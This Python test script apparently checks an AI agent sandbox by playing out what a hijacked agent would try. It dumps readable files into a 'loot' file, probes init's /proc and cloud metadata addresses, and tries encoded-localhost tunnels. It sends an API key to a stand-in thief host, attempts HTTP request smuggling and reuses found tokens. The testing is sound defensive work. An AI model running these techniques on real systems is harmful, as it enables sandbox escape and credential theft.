"""What an injection tries that owns a sandbox: one line for each attempt, `name: outcome`."""

import base64
import errno
import os
import re
import socket
import ssl
import stat
import subprocess

OWN, OWN_PLAIN = os.environ["OWN"], os.environ["OWN_PLAIN"]
THIEF, THIEF_PLAIN = os.environ["THIEF"], os.environ["THIEF_PLAIN"]
SERVER, LAN = os.environ["SERVER"], os.environ["LAN"]
KEY, OTHER, TOKEN = os.environ["API_KEY"], os.environ["OTHER"], os.environ["TOKEN"]
PROXY = re.fullmatch(r"http://(.*):(\d+)/?", os.environ["http_proxy"])
PORT = SERVER.rsplit(":", 1)[1]


def told(name, outcome):
    print(f"{name}: {outcome}", flush=True)


def tried(name, attempt):
    try:
        told(name, attempt())
    except ssl.SSLError as error:
        told(name, "no TLS")
    except TimeoutError:
        told(name, "silence")
    except OSError as error:
        told(name, errno.errorcode.get(error.errno, error))


# Everything readable. What was found stays in a file of the workspace, which the test searches.


def everything():
    skipped = ("/usr", "/lib", "/bin", "/sbin", "/lib64", "/sys")
    with open("/workspace/loot", "wb") as loot:
        for folder, folders, names in os.walk("/"):
            folders[:] = [one for one in folders if os.path.join(folder, one) not in skipped]
            for path in (os.path.join(folder, name) for name in names if name not in ("kmsg", "loot")):
                try:
                    if stat.S_ISLNK(os.lstat(path).st_mode):
                        loot.write(os.readlink(path).encode() + b"\n")
                    if not stat.S_ISREG(os.stat(path).st_mode):
                        continue
                    file = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                    loot.write(os.read(file, 1 << 16) + b"\n")
                    os.close(file)
                except OSError:
                    pass
    return "read"


def opened(path):
    with open(path, "rb") as file:
        file.read(1)
    return "open"


tried("everything readable", everything)
for file in ("mem", "environ", "maps", "fd/0", "root/etc/hostname"):
    tried(f"{file} of init", lambda: opened(f"/proc/1/{file}"))

# Every address that can be named, without the way out.


def connected(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as one:
        one.settimeout(3)
        one.connect(address)
    return "open"


HERE = ["127.0.0.1", "0.0.0.0", "::1", "::", "::ffff:127.0.0.1", "127.0.0.2", LAN]
for host in HERE + ["169.254.169.254", "10.0.0.1", "fe80::1", "8.8.8.8"]:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    name = "the host" if host == LAN else host
    tried(f"{name} directly", lambda: connected(family, (host, int(PORT))))
tried("a socket of the host", lambda: connected(socket.AF_UNIX, os.environ["SOCKET"]))
tried("an abstract socket", lambda: connected(socket.AF_UNIX, "\0" + os.environ["ABSTRACT"]))
for name, family in (("vsock", 40), ("netlink", 16), ("packet", 17), ("alg", 38)):
    tried(name, lambda: socket.socket(family, socket.SOCK_STREAM if family == 40 else socket.SOCK_DGRAM))
tried("a raw socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))

# The same and more through the way out.


def read(stream):
    data = b""
    while True:
        try:
            piece = stream.recv(65536)
        except (ConnectionResetError, ssl.SSLEOFError):
            piece = b""
        if not piece:
            return data.decode("latin-1")
        data += piece


def status(answer):
    found = re.match(r"HTTP/1\.1 (\d+)", answer)
    return found[1] if found else "closed"


def spoken(text, stream=None):
    stream = stream or socket.create_connection((PROXY[1], int(PROXY[2])), timeout=10)
    stream.sendall(text.encode("latin-1"))
    return read(stream)


def tunnel(place, headers=""):
    stream = socket.create_connection((PROXY[1], int(PROXY[2])), timeout=10)
    stream.sendall(f"CONNECT {place} HTTP/1.1\r\nHost: {place}\r\n{headers}\r\n".encode())
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        byte = stream.recv(1)
        if not byte:
            break
        head += byte
    return stream, status(head.decode("latin-1"))


def secure(place, name=None, trusting=False):
    stream, code = tunnel(place)
    if code != "200":
        raise ConnectionRefusedError(errno.ECONNREFUSED, code)
    context = ssl.create_default_context()
    if trusting:
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context.wrap_socket(stream, server_hostname=name or place.rsplit(":", 1)[0])


def request(target, host, headers="", body=""):
    method = "POST" if body else "GET"
    return (
        f"{method} {target} HTTP/1.1\r\nHost: {host}\r\n{headers}Connection: close\r\n"
        f"Content-Length: {len(body)}\r\n\r\n{body}"
    )


for place in (
    SERVER,
    f"localhost:{PORT}",
    f"0.0.0.0:{PORT}",
    f"0:{PORT}",
    f"127.1:{PORT}",
    f"2130706433:{PORT}",
    f"0x7f000001:{PORT}",
    f"0177.0.0.1:{PORT}",
    f"[::1]:{PORT}",
    f"[::]:{PORT}",
    f"[::ffff:127.0.0.1]:{PORT}",
    f"[64:ff9b::7f00:1]:{PORT}",
    f"[2002:7f00:1::]:{PORT}",
    "169.254.169.254:80",
    "[fd00:ec2::254]:80",
    "10.0.0.1:80",
    f"{PROXY[1]}:{PROXY[2]}",
):
    name = "the server" if place == SERVER else place.replace(f":{PORT}", "")
    name = "the way out itself" if place.endswith(f":{PROXY[2]}") else name
    tried(f"{name} by a tunnel", lambda: tunnel(place)[1])
    tried(f"{name} in plain", lambda: status(spoken(request(f"http://{place}/", place))))

# Secrets, towards another host and in other ways. The key is swapped at its own host alone.


def total(text):
    return sum(text.encode())


def shown(answer, wanted=KEY):
    body = answer.partition("\r\n\r\n")[2]
    return "placeholder" if wanted in body else f"{status(answer)} without the placeholder"


def sums(answer):
    return dict(re.findall(r"(key|body|url) (\d+)", answer))


X = f"X-Key: {KEY}\r\n"
tried("its own host", lambda: sums(spoken(request("/sums", OWN, X), secure(OWN)))["key"])


def placed(part, target, headers, body, wanted):
    found = sums(spoken(request(target, OWN, headers, body), secure(OWN)))
    return "placeholder" if found.get(part) == str(total(wanted)) else f"something else: {found}"


tried("in the address", lambda: placed("url", f"/sums?{KEY}", "", "", f"/sums?{KEY}"))
tried("in a body", lambda: placed("body", "/sums", "", KEY, KEY))
tried("the key of another hand", lambda: placed("key", "/sums", f"X-Key: {OTHER}\r\n", "", OTHER))
tried("its own host echoes it", lambda: shown(spoken(request("/echo", OWN, X), secure(OWN))))
tried("its own host without TLS", lambda: shown(spoken(request(f"http://{OWN_PLAIN}/echo", OWN_PLAIN, X))))
tried("another host", lambda: shown(spoken(request("/", THIEF, X), secure(THIEF, trusting=True))))
tried("another host without TLS", lambda: shown(spoken(request(f"http://{THIEF_PLAIN}/", THIEF_PLAIN, X))))
BASIC = base64.b64encode(f"me:{KEY}".encode()).decode()
tried(
    "another host in base64",
    lambda: shown(
        spoken(request("/", THIEF, f"Authorization: Basic {BASIC}\r\n"), secure(THIEF, trusting=True)), BASIC
    ),
)


def redirected():
    command = ["curl", "-sSkL", "--max-time", "20", "-H", f"X-Key: {KEY}"]
    command += [f"https://{OWN}/redirect?to=https://{THIEF}/"]
    done = subprocess.run(command, capture_output=True, text=True)
    return "placeholder" if KEY in done.stdout else done.stdout + done.stderr


tried("redirected to another host", redirected)
tried("another Host", lambda: status(spoken(request("/echo", THIEF, X), secure(OWN))))
tried(
    "two Hosts", lambda: status(spoken(request("/echo", OWN, f"Host: {THIEF}\r\n{X}"), secure(OWN)))
)
tried("an absolute form", lambda: status(spoken(request(f"https://{THIEF}/", OWN, X), secure(OWN))))
tried("an absolute form to itself", lambda: status(spoken(request(f"https://{THIEF}/", THIEF, X), secure(OWN))))
tried("another name in TLS", lambda: secure(OWN, "thief.example", trusting=True).version())
tried("a tunnel for two hosts", lambda: tunnel(OWN, f"Host: {THIEF}\r\n")[1])
tried("a tunnel with a user", lambda: tunnel(f"{OWN}@{THIEF}")[1])
tried("a tunnel to a path", lambda: tunnel(f"https://{THIEF}/")[1])
CHUNKS = "Transfer-Encoding: chunked\r\n"
HIDDEN = request("/", THIEF, X)
tried(
    "a length beside chunks",
    lambda: status(spoken(f"POST /echo HTTP/1.1\r\nHost: {OWN}\r\nContent-Length: 5\r\n{CHUNKS}\r\n0\r\n\r\n{HIDDEN}", secure(OWN))),
)
tried("two lengths", lambda: status(spoken(request("/echo", OWN, f"Content-Length: 9\r\n{X}", "abc"), secure(OWN))))
tried("a folded header", lambda: status(spoken(request("/echo", OWN, f"X-Key: a\r\n {KEY}\r\n"), secure(OWN))))
tried("a bare line feed", lambda: status(spoken(request("/echo", OWN, f"X: a\nHost: {THIEF}\r\n{X}"), secure(OWN))))
tried("a space before the colon", lambda: status(spoken(request("/echo", OWN, f"Host : {THIEF}\r\n{X}"), secure(OWN))))


def second():
    first = request("/sums", OWN).replace("Connection: close\r\n", "")
    answers = spoken(first + request("/echo", THIEF, X), secure(OWN))
    return " ".join(re.findall(r"HTTP/1\.1 (\d+)", answers))


tried("a second request behind the first", second)
tried(
    "headers of proxies",
    lambda: shown(
        spoken(
            request("/echo", OWN, f"X-Forwarded-Host: {THIEF}\r\nForwarded: host={THIEF}\r\nX-Original-Url: https://{THIEF}/\r\n{X}"),
            secure(OWN),
        )
    ),
)

# Tokens that were found.

for name, token in (("a brain's token", TOKEN), ("the placeholder", KEY)):
    headers = f"Authorization: Bearer {token}\r\nX-Api-Key: {token}\r\n"
    for path in ("/v1/sessions", "/outlast/v1/keys", "/outlast/v1/brains/v1/messages"):
        tried(
            f"{name} at {path}",
            lambda: status(spoken(request(f"http://{SERVER}{path}", SERVER, headers))),
        )
